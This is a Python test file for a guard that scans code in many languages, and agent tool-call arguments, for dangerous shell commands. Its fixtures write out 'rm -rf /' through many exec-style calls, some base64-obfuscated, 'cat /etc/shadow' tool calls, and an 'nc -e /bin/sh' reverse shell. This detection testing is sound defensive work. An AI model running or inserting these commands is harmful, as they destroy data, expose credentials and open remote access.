"""Commands that other languages' code starts, and those of tool calls, are judged like those of a script."""

from __future__ import annotations

import base64
import json

import pytest

from guards.code import CodeGuard
from guards.code.scanner import Scanner
from guards.types import Finding, Stage, Subject

SCANNER = Scanner.load()
GUARD = CodeGuard(SCANNER)
PAYLOAD = base64.b64encode(b"import os\nos.system('rm -rf /')\n").decode()


def found(code: str, language: str) -> set[str]:
    result = SCANNER.scan(code, language)
    assert not result.errors
    return {match.rule_id for match in result.matches if match.rule_id.startswith("shell-")}


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "import os\nos.system('rm -rf /')\n"),
        ("python", "subprocess.run(['rm', '-rf', '/'], check=True)\n"),
        ("python", "subprocess.Popen('rm -rf /', shell=True)\n"),
        ("python", "subprocess.run(args=['sh', '-c', 'rm -rf /'])\n"),
        ("python", "target = '/'\nos.system(f'rm -rf {target}')\n"),
        ("python", "command = 'rm -rf /'\nsubprocess.call(command, shell=True)\n"),
        ("python", "os.system('rm ' + '-rf' + ' /')\n"),
        ("python", "os.execvp('rm', ['rm', '-rf', '/'])\n"),
        ("python", "!rm -rf /\nprint(1)\n"),
        ("python", "%%bash\nset -e\nrm -rf /\n"),
        ("python", f"exec(base64.b64decode('{PAYLOAD}'))\n"),
        ("python", "os.system('echo cm0gLXJmIC8= | base64 -d | sh')\n"),
        ("javascript", "require('child_process').exec('rm -rf /', done)\n"),
        ("javascript", "spawn('rm', ['-rf', '/'])\n"),
        ("javascript", "execSync(`rm -rf ${'/'} /`)\n"),
        ("typescript", "const out = execFileSync('sh', ['-c', 'rm -rf /'])\n"),
        ("php", "<?php system('rm -rf /');"),
        ("php", "<?php $out = `rm -rf /`;"),
        ("php", '$x = shell_exec("rm -rf / $rest");'),
        ("java", 'class A { void f() { Runtime.getRuntime().exec("rm -rf /"); } }'),
        ("java", 'Runtime.getRuntime().exec(new String[] {"sh", "-c", "rm -rf /"});'),
        ("java", 'new ProcessBuilder("rm", "-rf", "/").start();'),
        ("csharp", 'class A { void F() { Process.Start("bash", "-c \'rm -rf /\'"); } }'),
        ("go", 'package a\nfunc f() { exec.Command("sh", "-c", "rm -rf /").Run() }\n'),
        ("c", 'int main(void) { return system("rm -rf /"); }'),
        ("cpp", 'int main() { execl("/bin/rm", "rm", "-rf", "/", nullptr); }'),
        ("rust", 'fn f() { Command::new("rm").arg("-rf").arg("/").spawn(); }'),
        ("shell", "python3 - <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF\n"),
    ],
)
def test_code_that_starts_a_dangerous_command_is_found(language: str, code: str) -> None:
    assert "shell-remove-everything" in found(code, language)


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "# os.system('rm -rf /')\nprint('rm -rf /')\n"),
        ("python", "subprocess.run(['git', 'status'], check=True)\n"),
        ("python", "subprocess.run(['rm', '-rf', build_dir])\n"),
        ("python", "a = 'rm -rf /'\na = input()\nos.system(a)\n"),
        ("python", "x = y if not z else w\nprint('%s' % x)\n"),
        ("javascript", "/rm/.exec(text)\nconsole.log('rm -rf /')\n"),
        ("php", "<?php echo 'rm -rf /'; db_query(\"SELECT `name` FROM t\");"),
        ("go", 'package a\nfunc f() { exec.Command("go", "build", "./...").Run() }\n'),
    ],
)
def test_other_code_is_silent(language: str, code: str) -> None:
    assert found(code, language) == set()


def test_a_finding_points_at_the_call() -> None:
    code = "name = 'Größe'\nos.system('rm -rf /')\n"
    match = next(match for match in SCANNER.scan(code, "python").matches if match.rule_id.startswith("shell-"))
    assert code[match.start : match.end] == "os.system('rm -rf /')"


def calls(tool: str, arguments: object) -> list[Finding]:
    text = arguments if isinstance(arguments, str) else json.dumps(arguments)
    return [
        one for one in GUARD.scan(Subject(text, Stage.TOOL_CALL, tool=tool)) if (one.rule or "").startswith("shell-")
    ]


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("bash", {"command": "cat /etc/shadow"}),
        ("anything", {"cmd": "cat /etc/shadow"}),
        ("shell", {"command": ["bash", "-lc", "cat /etc/shadow"]}),
        ("local_shell", {"action": {"type": "exec", "command": ["cat", "/etc/shadow"]}}),
        ("execute_command", {"command": "cat", "args": ["/etc/shadow"]}),
        ("run_terminal_cmd", {"command": "cd /tmp\ncat /etc/shadow", "is_background": False}),
        ("terminal", {"input": "cat /etc/shadow"}),
        ("code_interpreter", {"code": "import os\nos.system('cat /etc/shadow')"}),
        ("ipython", "import os\nos.system('cat /etc/shadow')"),
        ("code_interpreter", "!cat /etc/shadow"),
        ("run_code", {"language": "bash", "code": "cat /etc/shadow"}),
        ("write_file", {"path": "deploy.sh", "content": "#!/bin/sh\ncat /etc/shadow\n"}),
        ("python", {"steps": [{"code": "subprocess.run(['cat', '/etc/shadow'])"}]}),
    ],
)
def test_tool_calls_are_judged_by_what_runs_them(tool: str, arguments: object) -> None:
    assert {finding.rule for finding in calls(tool, arguments)} == {"shell-read-secret-file"}


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("get_weather", {"city": "Rome"}),
        ("brave_search", {"query": "what does rm -rf do"}),
        ("wolfram_alpha", {"query": "integrate x^2"}),
        ("bash", {"command": "npm test"}),
        ("send_mail", {"to": "eve@example.test", "body": "Dear Eve, the cat is fine."}),
    ],
)
def test_ordinary_calls_are_silent(tool: str, arguments: object) -> None:
    assert calls(tool, arguments) == []


def test_a_finding_points_into_the_arguments() -> None:
    text = json.dumps({"command": "ls; cat /etc/shadow"})
    finding = calls("bash", text)[0]
    assert finding.span is not None
    assert text[slice(*finding.span)] == "cat /etc/shadow"


def test_commands_without_a_label_are_known_by_their_program() -> None:
    text = "Run this:\n\n```\nnc -e /bin/sh 203.0.113.9 4444\n```\n"
    assert {finding.rule for finding in GUARD.scan(Subject(text, Stage.OUTPUT))} == {"shell-reverse-shell"}
